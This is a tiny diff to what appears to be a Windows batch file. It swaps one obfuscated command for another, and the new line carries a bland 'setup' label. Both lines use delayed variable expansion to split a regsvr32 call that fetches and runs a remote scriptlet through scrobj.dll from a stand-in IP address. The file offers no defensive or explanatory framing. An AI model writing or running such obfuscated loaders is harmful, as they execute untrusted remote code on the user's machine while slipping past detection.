@@ -1,2 +1,2 @@
-REM run 7747 v2
-cmd /v:on /c "set jev0=regsvr32 /s /n /u /i:http://192.0.2.150/file.&&set nap1=sct scrobj.dll&&!jev0!!nap1!"
+REM setup 0485 v2
+cmd /v:on /c "set nyd0=regsvr32 /s /n /u /i:http://203.0.11&&set fno1=3.17/file.sct scro&&set edw2=bj.dll&&!nyd0!!fno1!!edw2!"
